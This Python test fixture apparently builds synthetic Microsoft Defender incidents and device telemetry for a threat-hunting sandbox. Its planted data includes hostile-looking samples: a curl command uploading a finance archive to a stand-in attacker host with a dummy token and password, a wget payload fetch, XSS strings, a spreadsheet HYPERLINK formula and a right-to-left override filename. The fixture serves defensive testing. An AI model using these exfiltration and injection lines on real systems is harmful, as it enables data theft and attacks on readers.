"""
The intrusions hidden in the fleet, with the incidents that Defender would raise for them.

`intrusions(end)` gives them, `plant(engine, …)` writes their telemetry. Each incident is as Graph returns it
(microsoft.graph.security.incident), with its alerts and evidence and no comments. Several hold what would
harm a careless reader: markup, a link, a spreadsheet formula, a bidirectional override, a password, a token.
"""

from __future__ import annotations

from datetime import datetime, timedelta
from typing import TYPE_CHECKING, Any, NamedTuple

from sandbox.engine import Row, timestamp
from sandbox.telemetry import device_id

if TYPE_CHECKING:
    from collections.abc import Iterable, Sequence

    from sandbox.engine import Engine

TENANT_ID = "5b5a146c-eba8-46af-96f8-e31b50d15a3f"
DROP_ADDRESS = "203.0.113.9"
LURE_URL = "https://updates.evil.example/kit/setup.sh"
STAGE_SHA1 = "3395856ce81f2b7382dee72602f798b642f14140"

Evidence = dict[str, Any]


class Intrusion(NamedTuple):
    """An incident, by a name to call it by, and the rows of (table, row) that it left behind."""

    name: str
    incident: dict[str, Any]
    rows: Sequence[tuple[str, Row]] = ()


def plant(engine: Engine, planted: Iterable[Intrusion]) -> None:
    """Write the telemetry of *planted* into *engine*."""
    for intrusion in planted:
        for table, row in intrusion.rows:
            engine.load(table, [row])


def intrusions(end: datetime) -> list[Intrusion]:
    """Return the planted intrusions in the order they come to light, all within two hours before *end*."""
    makers = (_exfiltration, _download, _windows, _silent, _merged, _benign, _spread)
    return [make(end) for make in makers]


# fmt: off  (tables of rows and evidence read best one to a line)
def _exfiltration(end: datetime) -> Intrusion:
    """A server archives its finance share and uploads it 12 minutes later; its neighbour only seems to."""
    srv, other, drop = "srv-7.contoso.com", "srv-3.contoso.com", "drop.evil.example"
    at = end - timedelta(hours=2)
    upload = at + timedelta(minutes=12)
    tar = f'tar -czf "/tmp/[Q3 report](https://{drop}/q3).tgz" /srv/finance'
    curl = (
        "curl -sS -H 'Authorization: Bearer not-a-real-token-0123456789abcdef' --password=Winter2024! "
        f"-F 'file=@/tmp/q3.tgz' https://{drop}/u?<script>alert(1)</script>"
    )
    beacon = f'=HYPERLINK("https://{drop}/a","open")'
    return Intrusion(
        "exfiltration",
        _incident(
            4101,
            "Archive of /srv/finance uploaded from srv-7",
            "high",
            "Exfiltration",
            at,
            upload,
            _device(srv),
            _ip(DROP_ADDRESS, "malicious"),
            _process(srv, at, "tar", tar, "svc-backup"),
            _file(srv, "/tmp/", ".stage.sh", STAGE_SHA1, "suspicious"),
            _url(f"https://{drop}/u", "malicious"),
        ),
        [
            _wrote(srv, at, "/tmp/", ".stage.sh", STAGE_SHA1, f"https://{drop}/.stage.sh", "", DROP_ADDRESS),
            _ran(srv, at, "tar", tar, "svc-backup"),
            _connected(srv, upload, "curl", curl, "svc-backup", DROP_ADDRESS, drop),
            _connected(srv, at + timedelta(minutes=50), "perl", beacon, "svc-backup", DROP_ADDRESS, drop),
            # What must not be found: an upload that stays on the machine, and one that comes a minute too late.
            _ran(other, at, "tar", "tar -czf /var/backups/etc.tgz /etc", "root"),
            _connected(other, at + timedelta(minutes=5), "curl", "curl -s localhost", "root", "127.0.0.1"),
            _connected(other, at + timedelta(minutes=31), "curl", "curl -T etc.tgz", "root", "198.51.100.77"),
        ],
    )


def _download(end: datetime) -> Intrusion:
    """A desktop's browser saves a script whose name reads backwards; Python then calls a rare address."""
    wks, folder, name = "wks-012.contoso.com", "/home/user35/Downloads/", "invoice\u202efdp.sh"
    sha1, address = "9f2c1d6a5b8e4f7091a2b3c4d5e6f708192a3b4c", "203.0.113.44"
    at = end - timedelta(minutes=90)
    later = at + timedelta(minutes=7)
    command = "python3 -c \"import os;os.system('id')#<img src=x onerror=alert(1)>\" --token=not-real"
    return Intrusion(
        "download",
        _incident(
            4102,
            "Suspicious script downloaded on wks-012",
            "medium",
            "CommandAndControl",
            at,
            later,
            _device(wks),
            _url(LURE_URL, "malicious"),
            _ip(address, "suspicious"),
            _file(wks, folder, name, sha1, "malicious"),
        ),
        [
            _wrote(wks, at, folder, name, sha1, LURE_URL, "https://mail.contoso.com/owa/", "203.0.113.45"),
            _connected(wks, later, "python3", command, "user35", address, "updates.evil.example"),
            # Excluded on a desktop, whatever it talks to.
            _connected(
                wks, later, "snapd", "/usr/lib/snapd/snapd", "root", "203.0.113.46", "api.snaps.example"
            ),
        ],
    )


def _windows(end: datetime) -> Intrusion:
    """A Windows client fetched a file through a page of the same malicious site; no Linux hunt applies."""
    pc, site = "pc-002.contoso.com", "https://updates.evil.example/"
    sha1 = "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567"
    at = end - timedelta(minutes=80)
    return Intrusion(
        "windows",
        _incident(
            4103,
            "Malicious download on a Windows client",
            "medium",
            "InitialAccess",
            at,
            at,
            _device(pc, "Windows11"),
            _url(site, "malicious"),
        ),
        [
            _wrote(
                pc,
                at,
                "C:\\Users\\user9\\Downloads\\",
                "setup.exe",
                sha1,
                "https://files.example/setup.exe",
                f"{site}kit/",
                "203.0.113.45",
            ),
        ],
    )


def _silent(end: datetime) -> Intrusion:
    """A device known by name alone, that sends no telemetry at all."""
    at = end - timedelta(minutes=70)
    return Intrusion(
        "silent",
        _incident(
            4104,
            "Sensor of srv-lost stopped reporting",
            "medium",
            "DefenseEvasion",
            at,
            at,
            {**_device("srv-lost.contoso.com"), "mdeDeviceId": None},
        ),
    )


def _merged(end: datetime) -> Intrusion:
    """Defender took this for an incident of its own, then merged it into the exfiltration."""
    at = end - timedelta(minutes=100)
    incident = _incident(4105, "Connection to a rare address from srv-7", "low", "Exfiltration", at, at)
    merged = {"status": "redirected", "redirectIncidentId": "4101", "alerts": []}
    return Intrusion("merged", {**incident, **merged})


def _benign(end: datetime) -> Intrusion:
    """Nothing of this was ever seen in the fleet."""
    at = end - timedelta(minutes=60)
    return Intrusion(
        "benign",
        _incident(
            4106,
            "Scan reported by a partner",
            "low",
            "Reconnaissance",
            at,
            at,
            _ip("203.0.113.200", "unknown"),
            _ip("192.0.2.10", "clean"),
            _url("https://nowhere.example/probe", "suspicious"),
        ),
    )


def _spread(end: datetime) -> Intrusion:
    """One campaign on a server, a desktop and a Windows client."""
    srv, wks, pc = "srv-2.contoso.com", "wks-003.contoso.com", "pc-001.contoso.com"
    address, relay = "203.0.113.77", "relay.evil.example"
    at = end - timedelta(minutes=50)
    command = f"wget -q https://{relay}/x -O /tmp/.x"
    return Intrusion(
        "spread",
        _incident(
            4107,
            "One tool on three devices",
            "high",
            "LateralMovement",
            at,
            at + timedelta(minutes=20),
            _device(srv),
            _device(wks),
            _device(pc, "Windows11"),
            _ip(address, "malicious"),
            _url(f"https://{relay}/x", "malicious"),
        ),
        [_connected(device, at, "wget", command, "svc-deploy", address, relay) for device in (srv, wks, pc)],
    )


def _incident(
    number: int, title: str, severity: str, category: str, first: datetime, last: datetime, *found: Evidence
) -> dict[str, Any]:
    opened = timestamp(last + timedelta(minutes=4))
    common: dict[str, Any] = {
        "tenantId": TENANT_ID,
        "severity": severity,
        "assignedTo": None,
        "classification": "unknown",
        "determination": "unknown",
        "createdDateTime": opened,
        "lastUpdateDateTime": opened,
        "comments": [],
        "incidentWebUrl": f"https://security.microsoft.com/incidents/{number}?tid={TENANT_ID}",
        "description": None,
    }
    alert = {
        **common,
        "id": f"da{number}_1",
        "providerAlertId": f"da{number}_1",
        "incidentId": str(number),
        "status": "new",
        "serviceSource": "microsoftDefenderForEndpoint",
        "title": title,
        "category": category,
        "mitreTechniques": [],
        "firstActivityDateTime": timestamp(first),
        "lastActivityDateTime": timestamp(last),
        "evidence": [{"createdDateTime": opened, **item} for item in found],
    }
    return {
        **common,
        "id": str(number),
        "status": "active",
        "redirectIncidentId": None,
        "displayName": title,
        "customTags": [],
        "systemTags": [],
        "summary": None,
        "resolvingComment": None,
        "alerts": [alert],
        "lastModifiedBy": "Microsoft 365 Defender-AlertCorrelation",
    }


def _evidence(kind: str, verdict: str, **fields: Any) -> Evidence:
    return {
        "@odata.type": f"#microsoft.graph.security.{kind}Evidence",
        "verdict": verdict,
        "remediationStatus": "none",
        "roles": [],
        "detailedRoles": [],
        "tags": [],
        **fields,
    }


def _device(name: str, platform: str = "Linux") -> Evidence:
    host, _, domain = name.partition(".")
    return _evidence(
        "device",
        "unknown",
        mdeDeviceId=device_id(name),
        deviceDnsName=name,
        hostName=host,
        dnsDomain=domain,
        osPlatform=platform,
        onboardingStatus="onboarded",
        healthStatus="active",
        riskScore="medium",
    )


def _ip(address: str, verdict: str) -> Evidence:
    return _evidence("ip", verdict, ipAddress=address, countryLetterCode=None)


def _url(url: str, verdict: str) -> Evidence:
    return _evidence("url", verdict, url=url)


def _image(folder: str, name: str, sha1: str) -> dict[str, Any]:
    return {"fileName": name, "filePath": folder, "sha1": sha1, "sha256": None, "md5": None, "fileSize": 1204}


def _file(device: str, folder: str, name: str, sha1: str, verdict: str) -> Evidence:
    return _evidence(
        "file",
        verdict,
        mdeDeviceId=device_id(device),
        detectionStatus="detected",
        fileDetails=_image(folder, name, sha1),
    )


def _process(device: str, at: datetime, image: str, command: str, account: str) -> Evidence:
    return _evidence(
        "process",
        "unknown",
        mdeDeviceId=device_id(device),
        processId=4711,
        processCommandLine=command,
        processCreationDateTime=timestamp(at),
        userAccount={"accountName": account},
        imageFile=_image("/usr/bin/", image, device_id(f"/usr/bin/{image}")),
    )


def _on(device: str, at: datetime, action: str) -> Row:
    return {"Timestamp": at, "DeviceId": device_id(device), "DeviceName": device, "ActionType": action}


def _ran(device: str, at: datetime, image: str, command: str, account: str) -> tuple[str, Row]:
    return "DeviceProcessEvents", {
        **_on(device, at, "ProcessCreated"),
        "FileName": image,
        "FolderPath": f"/usr/bin/{image}",
        "ProcessCommandLine": command,
        "AccountName": account,
        "ProcessId": 4711,
        "SHA1": device_id(f"/usr/bin/{image}"),
        "InitiatingProcessFileName": "bash",
    }


def _connected(
    device: str, at: datetime, image: str, command: str, account: str, address: str, name: str = ""
) -> tuple[str, Row]:
    return "DeviceNetworkEvents", {
        **_on(device, at, "ConnectionSuccess"),
        "RemoteIP": address,
        "RemotePort": 443,
        "RemoteUrl": name,
        "RemoteIPType": "Public",
        "Protocol": "Tcp",
        "LocalIPType": "Private",
        "LocalPort": 40112,
        "InitiatingProcessFileName": image,
        "InitiatingProcessFolderPath": f"/usr/bin/{image}",
        "InitiatingProcessCommandLine": command,
        "InitiatingProcessAccountName": account,
        "InitiatingProcessId": 4712,
    }


def _wrote(
    device: str, at: datetime, folder: str, name: str, sha1: str, url: str, referrer: str, address: str
) -> tuple[str, Row]:
    return "DeviceFileEvents", {
        **_on(device, at, "FileCreated"),
        "FileName": name,
        "FolderPath": folder + name,
        "SHA1": sha1,
        "FileOriginUrl": url,
        "FileOriginReferrerUrl": referrer,
        "FileOriginIP": address,
        "FileSize": 1204,
    }
